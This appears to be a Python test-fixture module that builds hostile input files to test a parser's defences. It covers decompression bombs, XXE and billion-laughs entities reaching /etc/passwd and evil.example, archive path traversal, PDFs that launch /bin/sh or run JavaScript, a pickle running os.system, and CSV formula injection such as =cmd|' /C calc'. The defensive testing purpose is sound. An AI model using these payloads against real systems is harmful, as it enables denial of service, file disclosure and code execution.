"""Files made by somebody who would like the reader to crash, to hang, to fill memory or disk, or to reach out of its folder."""
# ruff: noqa: E501 (what is forged is one piece)

import gzip
import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable

from tests.hostile.markup import page

SAID = "Four people died in the fire at the mill in Port Lys, Mayor Ann Holt said on Monday. The union denied it."
MILLION = 1_000_000
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {inner} "{f"&{outer};" * 10}">' for outer, inner in zip("abcdefgh", "bcdefghi", strict=True)
) + "]>"  # fmt: skip
OUTSIDE = '<!DOCTYPE x [<!ENTITY out SYSTEM "file:///etc/passwd"><!ENTITY % net SYSTEM "http://evil.example/d.dtd">%net;]>'


class Canary:
    """What a pickle would run."""

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        import os

        return os.system, ("touch canary",)


def zipped(members: dict[str, bytes], change: Callable[[zipfile.ZipInfo], None] = lambda _entry: None) -> bytes:
    """A ZIP of these."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            entry = zipfile.ZipInfo("x")
            entry.filename, entry.compress_type = name, zipfile.ZIP_DEFLATED
            change(entry)
            archive.writestr(entry, data)
    return made.getvalue()


def zeros(size: int) -> bytes:
    """So many zeros, as zlib packs them."""
    packer = zlib.compressobj(9)
    return b"".join([packer.compress(bytes(1 << 20)) for _ in range(size >> 20)] + [packer.flush()])


def tarred() -> bytes:
    """A tar with a link out, a device, and a path that leads up."""
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for name, kind, to in (
            ("a", tarfile.SYMTYPE, "/etc/passwd"),
            ("b", tarfile.LNKTYPE, "../../c"),
            ("d", tarfile.CHRTYPE, ""),
        ):
            entry = tarfile.TarInfo(name)
            entry.type, entry.linkname = kind, to
            archive.addfile(entry)
        up = tarfile.TarInfo("../../../up.txt")
        up.size = len(SAID)
        archive.addfile(up, io.BytesIO(SAID.encode()))
    return made.getvalue()


def pdf(*objects: str | bytes, root: int = 1, trailer: str = "", version: str = "1.7") -> bytes:
    """A PDF of these objects, the first its root."""
    made, places = f"%PDF-{version}\n".encode(), []
    for number, words in enumerate(objects, start=1):
        places.append(len(made))
        made += f"{number} 0 obj\n".encode() + (words.encode() if isinstance(words, str) else words) + b"\nendobj\n"
    start = len(made)
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    made += f"xref\n0 {len(places) + 1}\n0000000000 65535 f \n{table}".encode()
    return made + f"trailer\n<< /Size {len(places) + 1} /Root {root} 0 R {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode()


def stream(data: bytes, head: str = "") -> bytes:
    """A stream object."""
    return f"<< /Length {len(data)} {head} >>\nstream\n".encode() + data + b"\nendstream"


SHOWN = f"BT /F1 12 Tf 72 700 Td ({SAID}) Tj ET".encode()
FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> {} >> {} >>"
PAGES = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
RUNS = "<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.example/'\\)) >>"


def pdfs() -> dict[str, bytes]:
    """PDFs that would run, or never end."""
    root = "<< /Type /Catalog /Pages 2 0 R {} >>"
    plain = (root.format(""), PAGES, PAGE.format("", ""), stream(SHOWN), FONT)
    form = stream(b"/X Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >>")
    packed = zeros(64 << 20)
    endless = stream(b"7 0 8 9 << /A 7 0 R >> [7 0 R]", "/Type /ObjStm /N 999999999 /First 8 /Extends 6 0 R")
    return {
        "runs.pdf": pdf(
            root.format(f"/OpenAction {RUNS} /AA << /WC {RUNS} >> /Names << /JavaScript << /Names [(x) {RUNS}] >> >>"),
            PAGES,
            PAGE.format("", f"/AA << /O {RUNS} >> /Annots [<< /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (http://evil.example/) >> >>]"),
            *plain[3:],
        ),
        "launches.pdf": pdf(root.format("/OpenAction << /S /Launch /F (/bin/sh) >>"), *plain[1:]),
        "reaches.pdf": pdf(root.format(""), PAGES, PAGE.format("", ""), b"<< /Length 9 /F (/etc/passwd) /FFilter /None >>\nstream\n\nendstream", FONT),
        "kids-in-a-ring.pdf": pdf(plain[0], "<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 999999999 >>", *plain[2:]),
        "form-in-itself.pdf": pdf(*plain[:2], PAGE.format("/XObject << /X 6 0 R >>", ""), stream(SHOWN + b" /X Do"), FONT, form),
        "bomb.pdf": pdf(*plain[:3], stream(packed, "/Filter /FlateDecode"), FONT),
        "bomb-in-bombs.pdf": pdf(*plain[:3], stream(zlib.compress(zlib.compress(packed)), "/Filter [/FlateDecode /FlateDecode /FlateDecode]"), FONT),
        "endless-streams.pdf": pdf(*plain, endless),
        "xref-in-a-ring.pdf": pdf(*plain, trailer="/Prev 9"),
        "length-of-itself.pdf": pdf(*plain[:3], b"<< /Length 4 0 R >>\nstream\n" + SHOWN + b"\nendstream", FONT),
        "deep.pdf": pdf(*plain, "[" * 200_000 + "]" * 200_000),
        "one-page-often.pdf": pdf(plain[0], f"<< /Type /Pages /Kids [{'3 0 R ' * 3_000}] /Count 3000 >>", *plain[2:]),
        "name-of-a-megabyte.pdf": pdf(*plain, "<< /" + "A" * MILLION + " 1 >>"),
    }  # fmt: skip


def warc(length: str, body: bytes, http: bytes = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n") -> bytes:
    """One record that says of itself how long it is."""
    head = f"WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:1>\r\nWARC-Date: 2031-05-07T10:00:00Z\r\nWARC-Target-URI: http://a.example/\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: {length}\r\n\r\n"
    return head.encode() + http + body + b"\r\n\r\n"


def warcs() -> dict[str, bytes]:
    """Web archives whose lengths are forged."""
    body = page()
    lengths = ["-1", "0", "5", "99999999999999999999", "0x10", "1e9", "", "12, 13", "\u0664"]
    made = {f"length-{number}.warc": warc(length, body) + warc("45", b"") for number, length in enumerate(lengths)}
    made["chunks.warc"] = warc(
        "99999999", b"ffffffffffffffff\r\n" + body, b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    made["answer-length.warc"] = warc("200", body, b"HTTP/1.1 200 OK\r\nContent-Length: 999999999999\r\n\r\n")
    made["packed-bomb.warc"] = warc(
        "99999999",
        gzip.compress(bytes(64 << 20)),
        b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Type: text/html\r\n\r\n",
    )
    made["bomb.warc.gz"] = gzip.compress(b"WARC/1.0\r\nContent-Length: 99999999999\r\n\r\n" + bytes(256 << 20))
    made["heads.warc"] = b"WARC/1.0\r\n" + b"X-A: " + b"a" * (16 << 20)
    made["scheme.warc"] = warc("99999", body).replace(b"http://a.example/", b"javascript:alert(1)")
    return made


def archives() -> dict[str, bytes]:
    """ZIPs and tars that grow, lead out, or bear odd names."""
    inner = zipped({"zeros.txt": bytes(32 << 20)})

    def link(entry: zipfile.ZipInfo) -> None:
        entry.create_system, entry.external_attr = 3, 0o120777 << 16

    up = [
        "../up.txt",
        "/abs.txt",
        "..\\up.txt",
        "C:\\x.txt",
        "\\\\server\\share\\x.txt",
        "a/../../up.txt",
        "ok/./../ok.txt",
        "file:///etc/x",
    ]
    odd = [
        "CON",
        "NUL.txt",
        "aux.html",
        "COM1.txt",
        "a:b.txt",
        "x\n.txt",
        "x\u202egpj.txt",
        " .txt",
        "." * 240,
        "n" * 3_000,
        "a\x1b[2J.txt",
        "<img src=x onerror=alert(1)>.txt",
    ]
    same = io.BytesIO()
    with zipfile.ZipFile(same, "w") as archive:
        for words in (SAID, SAID.replace("Four", "Nine")):
            archive.writestr(zipfile.ZipInfo("same.txt"), words)
    lies = bytearray(zipped({"lies.txt": SAID.encode() * 50}))
    place = lies.rindex(b"PK\x01\x02")
    struct.pack_into("<II", lies, place + 20, 10, 2**32 - 2)
    return {
        "bomb.zip": zipped({f"{number}.zip": inner for number in range(64)}),
        "up.zip": zipped({name: SAID.encode() for name in up}),
        "odd.zip": zipped({name: SAID.encode() for name in odd}),
        "link.zip": zipped({"link.txt": b"/etc/passwd"}, link),
        "same.zip": same.getvalue(),
        "lies.zip": bytes(lies),
        "many.zip": zipped({f"{number}": b"" for number in range(3_000)}),
        "out.tar": tarred(),
        "bomb.tar.gz": gzip.compress(bytes(128 << 20)),
        "rows.wacz": zipped({"datapackage.json": b'{"resources": [{"path": "../../etc/passwd", "hash": "sha256:00"}]}', "archive/../../x.warc.gz": b""}),
    }  # fmt: skip


def office(kind: str, xml: str) -> bytes:
    """A Word document or a workbook whose main part is this XML."""
    types = {"docx": "wordprocessingml.document", "xlsx": "spreadsheetml.sheet"}[kind]
    main = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml"}[kind]
    content = f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/{main}" ContentType="application/vnd.openxmlformats-officedocument.{types}.main+xml"/></Types>'
    relations = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="{main}"/></Relationships>'
    return zipped({"[Content_Types].xml": content.encode(), "_rels/.rels": relations.encode(), main: xml.encode()})


def xmls() -> dict[str, bytes]:
    """Entities that grow and that lead out, wherever XML is read."""
    word = '{}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>'
    book = '{}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets>{}</sheets></workbook>'
    return {
        "laughs.docx": office("docx", word.format(LAUGHS, "&i;")),
        "outside.docx": office("docx", word.format(OUTSIDE, f"{SAID} &out;")),
        "laughs.xlsx": office("xlsx", book.format(LAUGHS, "&i;")),
        "outside.xlsx": office("xlsx", book.format(OUTSIDE, "&out;")),
        "laughs.html": f"<?xml version='1.0'?>{LAUGHS}<html xmlns='http://www.w3.org/1999/xhtml'><body><p>&i; {SAID}</p></body></html>".encode(),
        "outside.html": f"<?xml version='1.0'?>{OUTSIDE}<html xmlns='http://www.w3.org/1999/xhtml'><body><p>&out; {SAID}</p></body></html>".encode(),
        "laughs.xml": f"{LAUGHS}<x>&i;</x>".encode(),
        "deep.docx": office("docx", word.format("", "<w:r>" * 100_000)),
    }  # fmt: skip


def texts() -> dict[str, bytes]:
    """Structures too deep, halves of letters, formulas, pickles."""
    formulas = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "＝1",
        '=HYPERLINK("http://evil.example/","x")',
        "'=1",
    ]
    rows = "".join(f'{number},"{words} four people died, the mayor said.","{words}"\n' for number, words in enumerate(formulas))
    halves = [
        {"id": f"h\ud800{number}", "text": f"{SAID} \ud83d alone \udfff", "outlet": "\udc00", "title": "\ud800"}
        for number in range(3)
    ]
    return {
        "deep.json": b"[" * MILLION + b"]" * MILLION,
        "deep-objects.json": b'{"a":' * MILLION + b"1" + b"}" * MILLION,
        "deep.jsonl": b'{"id": "x", "text": ' + b"[" * MILLION + b"]" * MILLION + b"}\n" + json.dumps({"id": "y", "text": SAID}).encode(),
        "deep-machine.html": page(f"<script type='application/ld+json'>{'[' * 200_000}</script>"),
        "deep.html": b"<div>" * 300_000 + SAID.encode(),
        "attribute.html": page(f"<p data-x='{'A' * (8 << 20)}'>x</p>"),
        "attributes.html": page("<p " + " ".join(f"a{number}=1" for number in range(100_000)) + ">x</p>"),
        "entities.html": page("&amp;" * 500_000),
        "numbers.html": page("&#x110000;&#0;&#xD800;&#99999999999999999999;&#-1;&unknown;" * 1_000),
        "halves.jsonl": b"".join(json.dumps(one).encode() + b"\n" for one in halves),
        "formulas.csv": f"id,text,outlet\n{rows}".encode(),
        "wide.csv": b"id,text" + b",x" * 100_000 + b"\n1," + SAID.encode() + b"\n",
        "numbers.json": json.dumps([{"id": 10**400, "text": SAID, "date": "9" * 5_000}]).encode(),
        "pickle.pkl": pickle.dumps(Canary()),
        "pickle.txt": pickle.dumps(Canary(), 0),
        "array.npy": b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(128) + pickle.dumps(Canary()),
        "line.txt": SAID.encode() + b" a" * MILLION,
        "spaces.txt": SAID.encode() + b" " * MILLION + b"x",
        "quotes.txt": (SAID + " " + "“he said " * 20_000).encode(),
        "dashes.txt": SAID.encode() + b" - " * 200_000,
        "marks.txt": (SAID + " e" + "\u0301" * 100_000).encode(),
        "numerals.txt": (SAID + " " + "one hundred thousand million and " * 5_000).encode(),
        "names.txt": (SAID + " " + "Ann Holt of Port Lys and " * 5_000).encode(),
        "zeros.txt": SAID.encode().replace(b" ", b"\x00"),
        "controls.txt": (SAID + " \x1b[2J\x1b]0;ran\x07\x9b31m\u202e\u2066").encode(),
        "mail.eml": b"Subject: =?utf-8?q?" + b"=00" * 50_000 + b"?=\r\n" + b"Content-Type: multipart/mixed; boundary=a\r\n\r\n" + b"--a\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n" * 5_000,
        "header.eml": b"From: a@a.example\r\nContent-Type: text/plain; filename=../../x\r\nX: " + b"(" * 100_000 + b"\r\n\r\n" + SAID.encode(),
    }  # fmt: skip


def files() -> dict[str, bytes]:
    """Every file, by its name."""
    return {**texts(), **pdfs(), **warcs(), **archives(), **xmls()}
